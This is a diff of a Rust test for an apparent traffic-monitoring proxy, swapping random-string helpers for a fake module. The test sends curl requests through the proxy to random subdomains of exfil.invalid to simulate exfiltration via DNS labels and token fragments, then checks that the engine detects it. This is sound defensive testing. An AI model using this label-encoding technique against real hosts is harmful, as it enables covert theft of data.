@@ -12,24 +12,6 @@ use traffic_guardian::proxy::ProxySettings;
 
 use common::*;
 
-fn rand_label(len: usize) -> String {
-    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
-    let mut r = vec![0u8; len];
-    getrandom::fill(&mut r).unwrap();
-    r.iter()
-        .map(|b| A[usize::from(*b) % A.len()] as char)
-        .collect()
-}
-
-fn rand_token(len: usize) -> String {
-    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
-    let mut r = vec![0u8; len];
-    getrandom::fill(&mut r).unwrap();
-    r.iter()
-        .map(|b| A[usize::from(*b) % A.len()] as char)
-        .collect()
-}
-
 #[tokio::test(flavor = "multi_thread")]
 async fn dns_labels_fragments_and_volume_are_found_and_summarised() {
     let (up, _) = spawn_http_upstream().await;
@@ -58,7 +40,7 @@ async fn dns_labels_fragments_and_volume_are_found_and_summarised() {
     engine.scan_idle().await;
     assert!(sink.all().is_empty(), "{:?}", sink.all());
 
-    let labels: Vec<String> = (0..12).map(|_| rand_label(28)).collect();
+    let labels: Vec<String> = (0..12).map(|_| fake::label(28)).collect();
     let urls: Vec<String> = labels
         .iter()
         .map(|l| format!("http://{l}.exfil.invalid/"))
@@ -66,7 +48,7 @@ async fn dns_labels_fragments_and_volume_are_found_and_summarised() {
     let args: Vec<&str> = urls.iter().skip(1).map(String::as_str).collect();
     curl(Some(&proxy), &urls[0], &args).await;
 
-    let frags: Vec<String> = (0..25).map(|_| rand_token(24)).collect();
+    let frags: Vec<String> = (0..25).map(|_| fake::token(24)).collect();
     for chunk in frags.chunks(5) {
         let urls: Vec<String> = chunk
             .iter()
